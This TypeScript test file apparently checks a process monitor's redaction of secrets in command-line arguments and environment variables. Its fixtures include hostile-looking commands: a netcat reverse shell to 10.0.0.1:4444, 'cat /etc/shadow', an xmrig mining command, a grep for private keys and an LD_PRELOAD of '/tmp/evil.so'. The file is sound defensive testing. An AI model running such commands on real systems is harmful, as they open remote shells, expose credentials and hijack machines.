import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { allowedEnvironment, REDACTED, redactArguments } from '../../../src/ebpf/process/redact.ts'

const SECRETS: readonly (readonly [args: string[], secret: string])[] = [
  [['app', '--password=hunter22'], 'hunter22'],
  [['app', '--password', 'hunter22', '--verbose'], 'hunter22'],
  [['app', '--db-password', '-hunter22'], 'hunter22'],
  [['app', '-password', 'hunter22'], 'hunter22'],
  [['env', 'PGPASSWORD=hunter22', 'psql'], 'hunter22'],
  [['env', 'AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'], 'wJalr'],
  [['java', '-Dspring.datasource.password=hunter22'], 'hunter22'],
  [['java', '-Djavax.net.ssl.keyStorePassword=hunter22'], 'hunter22'],
  [['/usr/bin/mysql', '-u', 'root', '-phunter22', 'shop'], 'hunter22'],
  [['sshpass', '-p', 'hunter22', 'ssh', 'host'], 'hunter22'],
  [['sshpass', '-phunter22', 'ssh', 'host'], 'hunter22'],
  [['curl', '-u', 'alice:hunter22', 'https://example.com'], 'hunter22'],
  [['curl', '-ualice:hunter22', 'https://example.com'], 'hunter22'],
  [['curl', '--user=alice:hunter22', 'https://example.com'], 'hunter22'],
  [['curl', '-H', 'Authorization: Bearer abc.def-123456', 'https://example.com'], 'abc.def'],
  [['curl', '-H', 'X-Api-Key: 0123456789', 'https://example.com'], '0123456789'],
  [['curl', '-H', 'Cookie: session=0123456789'], '0123456789'],
  [['git', 'clone', 'https://alice:hunter22@example.com/x.git'], 'hunter22'],
  [['psql', 'postgres://alice:hunter22@db/shop'], 'hunter22'],
  [['docker', 'login', '-u', 'alice', '-p', 'hunter22'], 'hunter22'],
  [['redis-cli', '-a', 'hunter22', 'GET', 'x'], 'hunter22'],
  [['ldapsearch', '-x', '-w', 'hunter22', '-b', 'dc=example'], 'hunter22'],
  [['smbclient', '-U', 'alice%hunter22', '//host/share'], 'hunter22'],
  [['openssl', 'rsa', '-passin', 'pass:hunter22'], 'hunter22'],
  [['gh', 'auth', 'login', '--with-token', 'ghp_0123456789abcdefghijABCDEFGHIJ012345'], 'ghp_0123'],
  [['echo', 'ghp_0123456789abcdefghijABCDEFGHIJ012345'], 'ghp_0123'],
  [['aws', 'configure', 'set', 'aws_access_key_id', 'AKIAIOSFODNN7EXAMPLE'], 'AKIAIOSFODNN7EXAMPLE'],
  [['sh', '-c', 'mysql -u root -phunter22 shop < dump'], 'hunter22'],
  [['sh', '-c', 'sshpass -p hunter22 ssh host'], 'hunter22'],
  [['sh', '-c', 'curl -H "Authorization: Bearer abc.def-123456" x'], 'abc.def'],
  [['sh', '-c', 'export TOKEN=hunter2222; run'], 'hunter2222'],
  [['kubectl', 'create', 'secret', 'generic', 'x', '--from-literal=password=hunter22'], 'hunter22'],
  [['kubectl', '--token', 'eyJhbGciOi.eyJzdWIiOiJ4In0.c2ln'], 'eyJhbGciOi'],
  [['vault', 'login', '-token=s.hunter22'], 'hunter22'],
]

test('secrets in arguments are replaced, and everything else stays', () => {
  for (const [args, secret] of SECRETS) {
    const clean = redactArguments(args)
    assert(!clean.join(' ').includes(secret), `${args.join(' ')} -> ${clean.join(' ')}`)
    assert.equal(clean.length, args.length)
    assert.match(clean.join(' '), /\[REDACTED:/)
    assert.deepEqual(redactArguments(clean).length, clean.length)
  }
})

test('harmless arguments stay as they are: the very same array', () => {
  for (const args of [
    ['sh', '-c', 'id; whoami'],
    ['ls', '-la', '/etc/passwd'],
    ['cat', '/etc/shadow'],
    ['docker', 'run', '-p', '80:80', 'nginx'],
    ['mysql', '-u', 'root', '-p', 'shop'],
    ['mkdir', '-p', '/a/b/c'],
    ['ps', '-p', '1234'],
    ['cp', '-p', 'secret.txt', 'token.txt'],
    ['app', '--password-file', '/run/secrets/db', '--token-path=/var/run/token', '--auth-type=basic'],
    ['app', '--password'],
    ['app', '--no-password', '--verbose'],
    ['bash', '-i'],
    ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'],
    ['xmrig', '-o', 'stratum+tcp://pool.example:3333'],
    ['grep', '-r', 'BEGIN RSA PRIVATE KEY', '/'],
    [],
    [''],
  ]) {
    assert.equal(redactArguments(args), args, args.join(' '))
  }
})

test('anything can be redacted, soon, and twice is as once', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'binary', maxLength: 200 }), { maxLength: 30 }), (args) => {
      const once = redactArguments(args)
      assert.equal(once.length, args.length)
      assert.equal(once[0], args[0])
    }),
  )
  const hostile = [
    'mysql '.repeat(1300),
    '-'.repeat(8000),
    `${'a'.repeat(40)}=`.repeat(190),
    'authorization:'.repeat(600),
    '://'.repeat(2700),
    `sh ${'mysql -x '.repeat(800)}`,
    'eyJ'.repeat(2700),
  ]
  const began = performance.now()
  for (const text of hostile) redactArguments(['sh', '-c', text, text])
  assert(performance.now() - began < 500, `${performance.now() - began} ms`)
})

test('a longer argument than is looked through loses its end', () => {
  const [, clean = ''] = redactArguments(['app', `${'x'.repeat(20_000)}ghp_0123456789abcdefghijABCDEFGHIJ012345`])
  assert(!clean.includes('ghp_') && clean.endsWith('…'))
})

test('of an environment only what is asked for stays', () => {
  const environment = [
    'LD_PRELOAD=/tmp/evil.so',
    'HOME=/root',
    'NODE_OPTIONS=--token=hunter22',
    'LC_ALL=C',
    'broken',
    '=x',
  ]
  assert.deepEqual(allowedEnvironment(environment, new Set()), [])
  assert.deepEqual(allowedEnvironment(environment, new Set(['LD_PRELOAD', 'LC_*'])), [
    ['LD_PRELOAD', '/tmp/evil.so'],
    ['LC_ALL', 'C'],
  ])
  const [[name, value] = []] = allowedEnvironment(environment, new Set(['NODE_OPTIONS']))
  assert.equal(name, 'NODE_OPTIONS')
  assert(value?.includes('REDACTED') === true && !value.includes('hunter22'))
  assert.equal(REDACTED.startsWith('[REDACTED:'), true)
})
